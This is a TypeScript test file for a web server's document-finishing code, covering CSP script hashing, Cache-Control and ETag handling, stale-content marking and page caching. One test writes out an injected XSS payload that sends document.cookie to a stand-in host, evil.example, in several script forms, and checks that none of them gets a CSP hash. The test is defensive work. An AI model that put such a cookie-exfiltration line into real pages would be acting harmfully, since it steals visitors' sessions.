import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { finishDocument, ownScripts, scriptHashes, type DocumentSettings, type FinishedPage } from './document.ts';

// The render marks the scripts React Router (and React) emit with a nonce of its own, unknown to anyone else.
const MARK = 'r4nd0mM4rk';
const HTML =
  `<!DOCTYPE html><html><head><link rel="modulepreload" href="/assets/entry.js" nonce="${MARK}"/></head><body><main>Hi</main>` +
  `<script type="application/ld+json">{"@type":"Thing"}</script><script nonce="${MARK}">window.__reactRouterContext = {};</script>` +
  `<script type="module" async="" nonce="${MARK}">import "/assets/entry.js";\nwindow.__reactRouterRouteModules = {};</script></body></html>`;

const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

function settings(kept: FinishedPage[] = []): DocumentSettings {
  return {
    paintFirst: true,
    csp: true,
    imageOrigin: 'https://images.example.com',
    cacheControl: 'public, max-age=0, s-maxage=60',
    keep: (_url, page) => (kept.push(page), true),
  };
}

const finish = (headers: Record<string, string> = {}, status = 200, kept: FinishedPage[] = [], stale = false) =>
  finishDocument(new Request('http://site.local/blog', { headers }), status, new Headers(), HTML, settings(kept), { mark: MARK, stale });

describe('the finished document', () => {
  it("ends <head> with the site's theme, after the stylesheet, when the site has one", async () => {
    const withTheme = { ...settings(), themeCss: () => ':root{--primary:#2e6b3f}' };
    const text = await finishDocument(new Request('http://site.local/'), 200, new Headers(), HTML, withTheme, {
      mark: MARK,
      stale: false,
    }).text();
    expect(text).toContain('<style>:root{--primary:#2e6b3f}</style></head>');
    expect(await finish().text()).not.toContain('<style>');
  });

  it('is the same bytes for every visitor, with a CSP listing the hash of each script it runs', async () => {
    const [a, b] = [finish(), finish()];
    const [textA, textB] = [await a.text(), await b.text()];
    expect(textA).toBe(textB);
    const csp = a.headers.get('content-security-policy')!;
    expect(csp).toContain("'strict-dynamic'");
    expect(csp).not.toMatch(/nonce|unsafe-inline'? [^;]*script/);
    expect(csp).toContain(hash('window.__reactRouterContext = {};'));
    // The bootstrap module runs later, from the paint-first starter: its hash is listed too.
    expect(csp).toContain(hash('import "/assets/entry.js";\nwindow.__reactRouterRouteModules = {};'));
    for (const [, code] of textA.matchAll(/<script>([\s\S]*?)<\/script>/g)) expect(csp).toContain(hash(code));
    expect(csp).not.toContain(hash('{"@type":"Thing"}')); // data, not script
    expect(csp).toContain("img-src 'self' data: https://images.example.com");
  });

  it('sets Cache-Control by status and answers 304 to a matching If-None-Match', async () => {
    const first = finish();
    expect(first.headers.get('cache-control')).toBe('public, max-age=0, s-maxage=60');
    const etag = first.headers.get('etag')!;
    const again = finish({ 'If-None-Match': etag });
    expect(again.status).toBe(304);
    expect(await again.text()).toBe('');
    expect(finish({ 'If-None-Match': etag, 'Cache-Control': 'no-cache' }).status).toBe(200);
    expect(finish({}, 404).headers.get('cache-control')).toBe('public, max-age=60');
    expect(finish({}, 503).headers.get('cache-control')).toBe('no-store');
  });

  it('lets no cache keep a page rendered from stale content or without a failed read, 200 or 404, and says so: X-Content-Stale', () => {
    for (const status of [200, 404]) {
      const stale = finish({}, status, [], true);
      expect(stale.headers.get('cache-control')).toBe('no-store');
      expect(stale.headers.get('x-content-stale')).toBe('1');
      expect(finish({}, status).headers.get('x-content-stale')).toBeNull();
    }
  });

  it('offers whole pages to the page cache, never stale ones or errors', () => {
    const kept: FinishedPage[] = [];
    const outcomes: string[] = [];
    const told = { ...settings(kept), onFinished: (outcome: string) => outcomes.push(outcome) };
    for (const [status, stale] of [
      [200, false],
      [404, false],
      [200, true],
      [502, false],
    ] as const)
      finishDocument(new Request('http://site.local/blog'), status, new Headers(), HTML, told, { mark: MARK, stale });
    expect(kept.map((p) => p.status)).toEqual([200, 404]);
    expect(outcomes).toEqual(['miss', 'miss', 'stale', 'bypass']);
  });

  it('hashes only scripts a browser runs', () => {
    const html = `<script nonce="${MARK}" src="/a.js"></script><script nonce="${MARK}" type="application/json">{}</script><script nonce="${MARK}">x()</script>`;
    expect(scriptHashes(ownScripts(html, MARK))).toEqual([hash('x()')]);
  });

  it('hashes only the scripts the server emits: an inline script that came with the content gets no hash, and the mark leaves no trace', async () => {
    const foreign = 'fetch("https://evil.example/?" + document.cookie)';
    for (const injected of [
      `<script>${foreign}</script>`,
      `<script nonce="guess">${foreign}</script>`,
      `<script type="module">${foreign}</script>`,
      // A lookalike of React Router's bootstrap, ahead of the real one: paint-first must not start it.
      `<script type="module">${foreign};window.__reactRouterRouteModules = {};</script>`,
    ]) {
      const html = HTML.replace('<main>Hi</main>', `<main>Hi${injected}</main>`);
      const response = finishDocument(new Request('http://site.local/blog'), 200, new Headers(), html, settings(), {
        mark: MARK,
        stale: false,
      });
      const csp = response.headers.get('content-security-policy')!;
      expect(csp, injected).not.toContain(hash(foreign));
      expect(csp, injected).not.toContain(hash(`${foreign};window.__reactRouterRouteModules = {};`));
      expect(csp).toContain(hash('window.__reactRouterContext = {};'));
      expect(csp).toContain(hash('import "/assets/entry.js";\nwindow.__reactRouterRouteModules = {};'));
      expect(await response.text()).not.toContain(MARK);
    }
  });
});
